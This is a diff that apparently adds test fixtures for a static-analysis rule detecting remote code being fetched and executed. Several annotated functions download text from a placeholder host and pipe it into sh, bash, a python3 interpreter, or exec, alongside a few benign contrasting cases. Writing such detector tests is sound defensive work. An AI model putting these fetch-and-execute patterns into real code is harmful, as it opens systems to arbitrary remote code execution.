@@ -71,3 +71,47 @@ class Echo(socketserver.StreamRequestHandler):
         for line in self.rfile:
             # ok: remote-code-answer-executed
             self.wfile.write(line)
+
+
+def told():
+    # ruleid: remote-code-answer-executed
+    subprocess.run(["sh", "-s"], input=requests.get("https://a.invalid/x").text, text=True)
+
+
+def told_later():
+    shell = subprocess.Popen(["bash"], stdin=subprocess.PIPE)
+    # ruleid: remote-code-answer-executed
+    shell.communicate(requests.get("https://a.invalid/x").content)
+
+
+class Worker:
+    def __init__(self):
+        self.shell = subprocess.Popen(["python3", "-"], stdin=subprocess.PIPE, text=True)
+
+    def ask(self):
+        # ruleid: remote-code-answer-executed
+        self.shell.stdin.write(requests.get("https://a.invalid/x").text)
+
+
+def told_data(script):
+    # ok: remote-code-answer-executed
+    subprocess.run(["jq", "."], input=requests.get("https://a.invalid/x").text, text=True)
+    # ok: remote-code-answer-executed
+    subprocess.run(["python3", str(script)], input=requests.get("https://a.invalid/x").text, text=True)
+
+
+HOW = {"run": exec}
+
+
+class Runner:
+    def __init__(self):
+        self.how = {"run": exec}
+
+    def go(self):
+        # ruleid: remote-code-answer-executed
+        self.how["run"](requests.get("https://a.invalid/x").text)
+
+
+def by_table():
+    # ruleid: remote-code-answer-executed
+    HOW["run"](requests.get("https://a.invalid/x").text)
